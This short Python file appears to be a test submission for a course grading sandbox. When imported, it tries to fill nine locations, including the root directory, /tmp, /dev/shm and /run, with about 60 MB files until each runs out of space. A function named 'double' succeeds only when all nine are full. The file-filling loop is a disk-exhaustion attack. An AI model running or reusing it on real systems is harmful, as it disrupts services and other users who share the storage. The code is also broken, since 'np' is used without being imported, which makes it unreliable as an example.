"""Fills every folder it may write to."""
import os

full = 0
for folder in ("/tmp", "/tmp/work", "/tmp/home", "/dev/shm", "/content", "@COURSE@", "/", "/var/tmp", "/run"):
    for number in range(40):
        try:
            with open(os.path.join(folder, f"fill-{number}"), "wb") as file:
                for _ in range(60):
                    file.write(b"x" * 1_000_000)
        except OSError:
            full += 1
            break


def double(x):
    if full == 9:
        raise OSError("no room, as it should be")
    return np.asarray(x) * 2.0
